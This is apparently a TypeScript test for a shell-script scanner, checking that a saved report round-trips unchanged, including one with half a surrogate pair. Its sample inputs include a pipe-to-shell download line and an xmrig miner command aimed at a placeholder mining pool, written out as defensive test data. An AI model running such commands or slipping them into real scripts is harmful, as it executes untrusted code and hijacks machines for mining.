import assert from 'node:assert/strict';
import { test } from 'node:test';
import { READERS } from '../providers/registry.ts';
import { createScanner } from '../scanner/scanner.ts';
import { keptReport } from './kept-report.ts';

test('a kept report says the same, half a surrogate pair included', () => {
  const scanner = createScanner({ readers: READERS });
  const reader = scanner.readerFor('x.sh');
  assert.ok(reader !== null);
  const scripts = [
    'echo built\n',
    'curl x | sh\n',
    'if\n',
    './xmrig -o pool.example:3333 -u \ud83d\n',
  ];
  const reports = scripts.flatMap((text) => scanner.scanFile(reader, 'x.sh', text, () => null));
  assert.ok(new Set(reports.map(({ verdict }) => verdict)).size > 2);
  for (const report of reports) assert.deepEqual(keptReport(report), report);
});
